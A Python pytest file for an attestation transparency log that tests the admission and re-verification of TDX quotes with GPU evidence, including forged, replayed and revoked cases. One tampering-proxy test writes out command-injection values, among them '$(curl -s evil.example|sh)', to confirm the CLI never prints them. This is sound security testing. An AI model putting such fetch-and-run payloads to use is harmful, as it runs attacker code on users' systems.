"""Composite admission end to end: a real server in simulated mode admits an entry carrying a TDX quote and
the evidence of its GPUs only when every GPU report was made for this entry, the quote commits to exactly those
reports, and each GPU verifies with the RIMs of its driver and VBIOS; the leaf records a verdict per GPU, the
evidence endpoint serves what it was appraised with, and a monitor's replay re-derives it."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from atlas_log.dsse import sign_envelope
from atlas_log.gpu.evidence import GpuEvidence, collection_sha256, serialize_evidence
from atlas_log.gpu.roots import certificate_sha256
from atlas_log.submission import (
    INTOTO_PAYLOAD_TYPE,
    build_submission,
    intoto_statement,
    signed_submission,
    spki_der,
    tdx_tee,
)
from atlas_log.tdx.binding import GPU_TAG, ZERO_NONCE, composite_report_data, gpu_nonce
from atlas_log.testing.demo import demo_submission
from atlas_log.testing.simulate import SimulatedPlatform
from atlas_log.testing.simulated_gpu import SimulatedGpu
from tests.conftest import ServerProcess
from tests.test_api import problem
from tests.test_gpu_verification import CRAFTED, crafted_chain


class Gpus:
    """Several GPUs of one machine as a submission's evidence provider."""

    def __init__(self, *gpus: SimulatedGpu) -> None:
        self.gpus = gpus

    def gpu_evidence(self, nonce: bytes) -> list[GpuEvidence]:
        return [g.evidence(nonce) for g in self.gpus]


def _payload(n: int) -> bytes:
    return intoto_statement([(f"model-{n}", f"{n:064x}")], "https://atlas-log.dev/train/v1", {"run": n})


def composite(
    key: Ed25519PrivateKey,
    platform: SimulatedPlatform,
    evidence: list[GpuEvidence],
    payload: bytes,
    *,
    quoted: list[GpuEvidence] | None = None,
) -> dict[str, Any]:
    """A composite submission whose quote commits to ``quoted`` (default: ``evidence``) and which carries
    ``evidence``: the two differ only in an attack."""
    spki = spki_der(key)
    rd = composite_report_data(INTOTO_PAYLOAD_TYPE, payload, spki, collection_sha256(quoted or evidence))
    tee = {**tdx_tee(platform.quote(rd), binding=GPU_TAG), "gpus": serialize_evidence(evidence)}
    return build_submission(sign_envelope(INTOTO_PAYLOAD_TYPE, payload, key), [spki], tee=tee)


def nonce_for(key: Ed25519PrivateKey, payload: bytes) -> bytes:
    return gpu_nonce(INTOTO_PAYLOAD_TYPE, payload, spki_der(key), ZERO_NONCE)


@pytest.fixture(scope="module")
def gpu_server(pg_url: str, template_db: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    from tests.conftest import copy_database

    url = copy_database(pg_url, template_db, f"atlas_gpu_admission_{os.getpid()}")
    s = ServerProcess(url, tmp_path_factory.mktemp("gpu") / "data")
    yield s
    s.stop()


@pytest.fixture
def http(gpu_server: ServerProcess) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=gpu_server.url, timeout=30) as client:
        yield client


def test_a_composite_entry_records_each_gpu_and_serves_what_it_was_appraised_with(
    gpu_server: ServerProcess, http: httpx.Client
) -> None:
    gpu = gpu_server.gpu
    machine = Gpus(gpu, gpu.sibling())
    r = http.post(
        "/api/v1/entries", json=demo_submission(Ed25519PrivateKey.generate(), 1, gpu_server.platform, gpus=machine)
    )
    assert r.status_code == 201, r.text
    tee = json.loads(base64.b64decode(r.json()["leaf"]))["body"]["tee"]
    assert tee["binding"] == GPU_TAG and len(tee["gpus"]) == 2
    for record, g in zip(tee["gpus"], machine.gpus, strict=True):
        assert record["measurements"] == "matched"
        assert record["architecture"] == "HOPPER" and record["driverVersion"] == g.driver_version
        assert record["ueid"] == g.ueid
        assert {r["kind"] for r in record["rims"]} == {"driver", "vbios"}
        assert [r["id"] for r in record["rims"]] == list(g.rim_ids)
    evidence = http.get(f"/api/v1/entries/{r.json()['logIndex']}/evidence").json()
    assert [e["arch"] for e in evidence["gpus"]] == ["HOPPER", "HOPPER"]
    for record in tee["gpus"]:
        for rim in record["rims"]:
            document = base64.b64decode(evidence["rims"][rim["sha256"]])
            served = http.get(f"/api/v1/rims/{rim['sha256']}").json()
            assert base64.b64decode(served["rim"]) == document and served["rimId"] == rim["id"]
    for record in tee["gpus"]:
        # OCSP spoke for the device chain's CAs (not the GPU-made leaf) and each RIM's chain below its root.
        chains = [c["chain"] for c in record["revocation"]]
        assert chains == ["device"] * 3 + ["driver"] * 3 + ["vbios"] * 3
        assert {c["status"] for c in record["revocation"]} == {"good"}
        for c in record["revocation"]:
            response = base64.b64decode(evidence["ocsp"][c["sha256"]])
            served = http.get(f"/api/v1/ocsp/{c['sha256']}").json()
            assert base64.b64decode(served["response"]) == response and served["thisUpdate"] <= served["nextUpdate"]
    problem(http.get("/api/v1/ocsp/" + "0" * 64), 404, "ocsp-not-found")
    info = http.get("/api/v1/log").json()["attestation"]["gpu"]
    assert info["deviceRoot"] == certificate_sha256(gpu.device_root) and info["requireRims"] is True
    assert evidence["gpuRoots"] == {"device": info["deviceRoot"], "rim": info["rimRoot"]}
    problem(http.get("/api/v1/rims/" + "0" * 64), 404, "rim-not-found")
    problem(http.get("/api/v1/rims/nothex"), 400, "invalid-digest")


def test_gpu_evidence_not_made_for_this_entry_or_not_the_one_quoted_is_refused(
    gpu_server: ServerProcess, http: httpx.Client
) -> None:
    gpu, platform, key = gpu_server.gpu, gpu_server.platform, Ed25519PrivateKey.generate()
    payload = _payload(2)
    right = nonce_for(key, payload)
    # Reports made for another nonce (another entry, or a replay), even though the quote commits to them.
    stale = [gpu.evidence(nonce_for(key, _payload(3)))]
    problem(http.post("/api/v1/entries", json=composite(key, platform, stale, payload)), 422, "gpu-nonce-mismatch")
    # A report swapped in after quoting, a GPU dropped, a GPU added: the quote committed to other reports.
    two = [gpu.evidence(right), gpu.sibling().evidence(right)]
    swapped = [two[0], gpu.sibling().evidence(right)]
    for carried in (swapped, two[:1], [*two, gpu.sibling().evidence(right)], [two[1], two[0]]):
        sub = composite(key, platform, carried, payload, quoted=two)
        problem(http.post("/api/v1/entries", json=sub), 422, "tdx-binding-mismatch")
    # A signature that does not hold over the report.
    report = bytearray(gpu.evidence(right).report)
    report[-1] ^= 1
    forged = [GpuEvidence(bytes(report), gpu.certificate_chain, right, "HOPPER", "forged")]  # type: ignore[arg-type]
    problem(http.post("/api/v1/entries", json=composite(key, platform, forged, payload)), 422, "gpu-signature-invalid")
    # A GPU under a root the log does not trust (a simulated GPU of someone else's).
    stranger = SimulatedGpu.create()
    sub = composite(key, platform, [stranger.evidence(right)], payload)
    problem(http.post("/api/v1/entries", json=sub), 422, "gpu-chain-invalid")
    # Measurements that differ from the RIMs' golden values.
    changed = dict(gpu.measurements)
    changed[5] = bytes(48)
    tampered = [GpuEvidence(gpu.report(right, measurements=changed), gpu.certificate_chain, right, "HOPPER", "x")]  # type: ignore[arg-type]
    sub = composite(key, platform, tampered, payload)
    resp = http.post("/api/v1/entries", json=sub)
    problem(resp, 422, "gpu-measurement-mismatch")
    # A driver the RIM service has no RIM for: this log requires RIMs.
    unknown = gpu.variant(driver_version="999.1.2")
    problem(
        http.post("/api/v1/entries", json=composite(key, platform, [unknown.evidence(right)], payload)),
        422,
        "gpu-driver-rim-missing",
    )
    # Not JSON-shaped evidence, a composite binding without GPUs, GPUs without the composite binding.
    sub = composite(key, platform, [gpu.evidence(right)], payload)
    sub["tee"]["gpus"][0]["evidence"] = "not base64!"
    problem(http.post("/api/v1/entries", json=sub), 400, "invalid-tee")
    for chain in (b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n", b"", b"junk"):
        broken = [GpuEvidence(gpu.evidence(right).report, chain, right, "HOPPER", "x")]  # type: ignore[arg-type]
        resp = http.post("/api/v1/entries", json=composite(key, platform, broken, payload))
        assert 400 <= resp.status_code < 500, resp.text
    sub = composite(key, platform, [gpu.evidence(right)], payload)
    del sub["tee"]["gpus"]
    problem(http.post("/api/v1/entries", json=sub), 400, "invalid-tee")
    plain = signed_submission(key, payload, platform)
    plain["tee"]["gpus"] = serialize_evidence([gpu.evidence(right)])
    problem(http.post("/api/v1/entries", json=plain), 400, "invalid-tee")
    # Nothing refused was logged; the honest submission still goes in.
    assert http.get("/api/v1/log").json()["treeSize"] <= 1
    ok = composite(key, platform, [gpu.evidence(right)], payload)
    assert http.post("/api/v1/entries", json=ok).status_code == 201


@pytest.mark.parametrize("case", CRAFTED)
def test_a_device_chain_that_fails_only_when_read_is_refused(
    gpu_server: ServerProcess, http: httpx.Client, case: str
) -> None:
    """A submitter with a TD quotes a GPU whose device chain holds a certificate it made so that the library
    fails on reading its extension or key: a 4xx naming the chain, before any RIM or OCSP lookup, not a 500."""
    gpu, platform, key = gpu_server.gpu, gpu_server.platform, Ed25519PrivateKey.generate()
    payload = _payload(40 + CRAFTED.index(case))
    right = nonce_for(key, payload)
    item = GpuEvidence(gpu.evidence(right).report, crafted_chain(gpu, case), right, "HOPPER", "crafted")  # type: ignore[arg-type]
    resp = http.post("/api/v1/entries", json=composite(key, platform, [item], payload))
    problem(resp, 422, "gpu-parse-error")
    assert "certificate" in resp.json()["detail"]


def test_one_gpu_listed_twice_is_refused(gpu_server: ServerProcess, http: httpx.Client) -> None:
    """Each report verifies on its own, and the quote commits to the collection; but one GPU listed twice (the
    same report, or two reports of one GPU) would log two GPUs where one did the work."""
    gpu, platform, key = gpu_server.gpu, gpu_server.platform, Ed25519PrivateKey.generate()
    payload = _payload(50)
    right = nonce_for(key, payload)
    one, other = gpu.evidence(right), gpu.sibling().evidence(right)
    for carried in ([one, one], [one, other, gpu.evidence(right)]):
        resp = http.post("/api/v1/entries", json=composite(key, platform, carried, payload))
        problem(resp, 422, "gpu-repeated")
        assert gpu.ueid in resp.json()["detail"]
    assert http.post("/api/v1/entries", json=composite(key, platform, [one, other], payload)).status_code == 201


def test_the_monitor_replays_composite_entries_with_the_rims_the_log_serves(
    gpu_server: ServerProcess, http: httpx.Client
) -> None:
    gpu = gpu_server.gpu
    for n in range(4):  # three with GPUs, one without
        sub = demo_submission(Ed25519PrivateKey.generate(), 10 + n, gpu_server.platform, gpus=gpu if n else None)
        posted = http.post("/api/v1/entries", json=sub)
        assert posted.status_code in (200, 201), posted.text
    info = http.get("/api/v1/log").json()["attestation"]
    base = [sys.executable, "-m", "atlas_log.cli", "--server", gpu_server.url, "--vkey", gpu_server.vkey]
    replay = [*base, "monitor", "--once", "--replay", "--replay-workers", "1", "--tdx-root", info["simulatedRoot"]]
    roots = ["--gpu-device-root", info["gpu"]["deviceRoot"], "--gpu-rim-root", info["gpu"]["rimRoot"]]
    done = subprocess.run(
        [*replay, *roots, "--state", str(Path(gpu_server.data_dir) / "m1.json")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    # Without the simulated GPU roots the replay fails those entries, and says which option trusts them.
    done = subprocess.run(
        [*replay, "--state", str(Path(gpu_server.data_dir) / "m2.json")], capture_output=True, text=True, timeout=120
    )
    assert done.returncode != 0
    assert f"--gpu-device-root {info['gpu']['deviceRoot']} --gpu-rim-root {info['gpu']['rimRoot']}" in " ".join(
        (done.stdout + done.stderr).split()
    )
    said = done.stdout + done.stderr
    assert "fail only for an untrusted root" in said and "is not evidence against the log" not in said, said


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"ATLAS_GPU_REQUIRED": "true"}, "gpu-evidence-required"),
        ({"ATLAS_GPU_MIN_DRIVER_VERSION": "581.0"}, "gpu-driver-too-old"),
    ],
)
def test_the_gpu_policy_refuses_what_it_does_not_admit(
    db_url: str, tmp_path: Path, env: dict[str, str], expected: str
) -> None:
    s = ServerProcess(db_url, tmp_path / "data", env=env)
    try:
        with httpx.Client(base_url=s.url, timeout=30) as http:
            key = Ed25519PrivateKey.generate()
            sub = (
                demo_submission(key, 1, s.platform)
                if "REQUIRED" in next(iter(env))
                else demo_submission(key, 1, s.platform, gpus=s.gpu)
            )
            problem(http.post("/api/v1/entries", json=sub), 422, expected)
            if "REQUIRED" in next(iter(env)):
                assert (
                    http.post("/api/v1/entries", json=demo_submission(key, 2, s.platform, gpus=s.gpu)).status_code
                    == 201
                )
    finally:
        s.stop()


@pytest.mark.parametrize("case", ["revoked", "service-down-required", "service-down-optional"])
def test_revocation_is_judged_at_admission(db_url: str, tmp_path: Path, case: str) -> None:
    """A GPU whose device certificate NVIDIA's OCSP service calls revoked is refused; with OCSP required, an
    unreachable service refuses (503, nothing written) rather than admitting unchecked; without, the entry is
    admitted and records no response."""
    from atlas_log_server.attest.dev import start_simulated_ocsp_service

    gpu = SimulatedGpu.create()
    gpu.save(tmp_path / "data" / "simulated-gpu")  # the server takes this GPU's roots
    revoked: set[int] = set()
    url = start_simulated_ocsp_service(gpu, revoked) if case == "revoked" else "http://127.0.0.1:9/"
    required = "true" if case != "service-down-optional" else "false"
    s = ServerProcess(db_url, tmp_path / "data", env={"ATLAS_GPU_OCSP_URL": url, "ATLAS_GPU_REQUIRE_OCSP": required})
    try:
        with httpx.Client(base_url=s.url, timeout=30) as http:
            key = Ed25519PrivateKey.generate()
            if case == "revoked":
                other = gpu.sibling()
                revoked.add(other.device_chain[1].serial_number)  # that GPU's own device certificate
                refused = http.post("/api/v1/entries", json=demo_submission(key, 1, s.platform, gpus=other))
                problem(refused, 422, "gpu-certificate-revoked")
                assert (
                    http.post("/api/v1/entries", json=demo_submission(key, 2, s.platform, gpus=gpu)).status_code == 201
                )
            elif case == "service-down-required":
                refused = http.post("/api/v1/entries", json=demo_submission(key, 1, s.platform, gpus=gpu))
                problem(refused, 503, "gpu-ocsp-unavailable")
                assert refused.headers["Retry-After"] == "30"
                assert http.get("/api/v1/log").json()["treeSize"] == 0
            else:
                admitted = http.post("/api/v1/entries", json=demo_submission(key, 1, s.platform, gpus=gpu))
                assert admitted.status_code == 201, admitted.text
                tee = json.loads(base64.b64decode(admitted.json()["leaf"]))["body"]["tee"]
                assert tee["gpus"][0]["revocation"] == []
    finally:
        s.stop()


def test_the_roots_hint_is_given_only_while_a_simulated_root_is_untrusted(gpu_server: ServerProcess) -> None:
    """A monitor already trusting the simulated roots is told nothing about them: failures are then the
    entries' own, and go on to be gathered as evidence."""
    from atlas_log import cli
    from atlas_log.reverify import Trust

    info = httpx.get(gpu_server.url + "/api/v1/log").json()["attestation"]
    options = cli.Options(server=gpu_server.url)
    gpu_roots = (info["gpu"]["deviceRoot"], info["gpu"]["rimRoot"])
    untrusted = cli._simulated_hint(["untrusted-root: not ours"], options, Trust())
    assert untrusted is not None and f"--tdx-root {info['simulatedRoot']}" in untrusted
    only_tdx = Trust(tdx_roots=(info["simulatedRoot"],))
    assert cli._simulated_hint(["chain_invalid"], options, only_tdx) is not None  # its GPU roots are not trusted
    trusted = Trust(tdx_roots=(info["simulatedRoot"],), gpu_device_roots=gpu_roots, gpu_rim_roots=gpu_roots)
    assert cli._simulated_hint(["chain_invalid"], options, trusted) is None


def spki_der_of(submission: dict[str, Any]) -> bytes:
    return base64.b64decode(submission["verificationMaterial"]["publicKeys"][0]["spki"])


def test_an_entrys_gpu_evidence_downloads_and_reverifies_offline(
    gpu_server: ServerProcess, http: httpx.Client, tmp_path: Path
) -> None:
    """`atlas-log evidence` writes a composite entry's GPU evidence, RIMs and OCSP responses beside its quote and
    prints the `gpu verify` command per GPU, which accepts as printed; the client refuses an answer whose GPU
    parts are not the ones the leaf commits to."""
    import shlex

    from atlas_log.answers import parse_evidence
    from atlas_log.client import LogClient
    from atlas_log.errors import VerificationError

    gpu = gpu_server.gpu
    sub = demo_submission(Ed25519PrivateKey.generate(), 70, gpu_server.platform, gpus=Gpus(gpu, gpu.sibling()))
    index = http.post("/api/v1/entries", json=sub).json()["logIndex"]
    base = [sys.executable, "-m", "atlas_log.cli", "--server", gpu_server.url, "--vkey", gpu_server.vkey]
    done = subprocess.run(
        [*base, "evidence", str(index), "--out", str(tmp_path / "ev")], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr
    commands = [line.split("and its GPU: ", 1)[1] for line in done.stdout.splitlines() if "and its GPU: " in line]
    assert len(commands) == 2 and all("--gpu-device-root" in c and "--rim" in c for c in commands), done.stdout
    # The nonce each report must carry, derived from what the leaf commits to: the check is of freshness.
    right = gpu_nonce(
        INTOTO_PAYLOAD_TYPE, base64.b64decode(sub["dsseEnvelope"]["payload"]), spki_der_of(sub), ZERO_NONCE
    )
    assert all(f"--nonce {right.hex()}" in c for c in commands), commands
    files = [[a for a in shlex.split(c) if a.endswith((".der", ".xml"))] for c in commands]
    assert all(len(f) == len(set(f)) for f in files), commands  # each file once
    for command in commands:
        args = shlex.split(command)
        assert args[:3] == ["atlas-log", "gpu", "verify"]
        ran = subprocess.run([*base[:3], *args[1:]], capture_output=True, text=True, timeout=120)
        assert ran.returncode == 0 and "ACCEPTED" in ran.stdout, command + "\n" + ran.stdout + ran.stderr
        assert "measurements against the driver RIM and VBIOS RIM, revocation (" in ran.stdout, ran.stdout
        assert "not checked" not in ran.stdout, ran.stdout
    # Without the simulated GPU's root, the chain fails, and the tool says which root to pass.
    at = args.index("--gpu-device-root")
    untrusted = subprocess.run([*base[:3], *args[1:at], *args[at + 2 :]], capture_output=True, text=True, timeout=120)
    assert untrusted.returncode == 1 and "REJECTED (chain_invalid)" in untrusted.stdout, untrusted.stdout
    assert "hint: a development log's GPU evidence comes from its simulated GPU: pass --gpu-device-root" in (
        untrusted.stderr
    )
    # `get` counts the GPU evidence as proved: the leaf commits to its collection hash.
    shown = subprocess.run([*base, "get", str(index), "--json"], capture_output=True, text=True, timeout=120)
    got = json.loads(shown.stdout)
    assert len(got["verified"]["submission"]["tee"]["gpus"]) == 2 and "submission" not in got["unverified"], got
    # Through a lying log, roots it names that are not fingerprints stay out of the printed commands.
    from tests.proxy import TamperingProxy

    proxy = TamperingProxy(gpu_server.url)
    evil = {"device": "0" * 64 + "; touch /tmp/atlas-pwned #", "rim": "$(curl -s evil.example|sh)"}
    proxy.on_get = lambda url, answer: {**answer, "gpuRoots": evil} if url.path.endswith("/evidence") else answer
    try:
        lied = [sys.executable, "-m", "atlas_log.cli", "--server", proxy.url, "--vkey", gpu_server.vkey]
        done = subprocess.run(
            [*lied, "evidence", str(index), "--out", str(tmp_path / "ev 2")],
            capture_output=True,
            text=True,
            timeout=120,
        )
    finally:
        proxy.close()
    assert done.returncode == 0 and "touch" not in done.stdout and "$(" not in done.stdout, done.stdout
    assert "'" + str(tmp_path / "ev 2") in done.stdout  # a folder with a space, quoted in the command
    # What a lying log might serve instead: another RIM under a recorded digest, or other GPU evidence.
    answer = http.get(f"/api/v1/entries/{index}/evidence").json()
    with LogClient(gpu_server.url, gpu_server.vkey) as client:
        entry = client.entry(index)
    assert len(parse_evidence(answer, entry).gpus) == 2
    digest = next(iter(answer["rims"]))
    swapped = {**answer, "rims": {**answer["rims"], digest: base64.b64encode(gpu.vbios_rim() + b" ").decode()}}
    with pytest.raises(VerificationError, match="is another one"):
        parse_evidence(swapped, entry)
    fewer = {**answer, "gpus": answer["gpus"][:1]}
    with pytest.raises(VerificationError, match="not the one entry"):
        parse_evidence(fewer, entry)
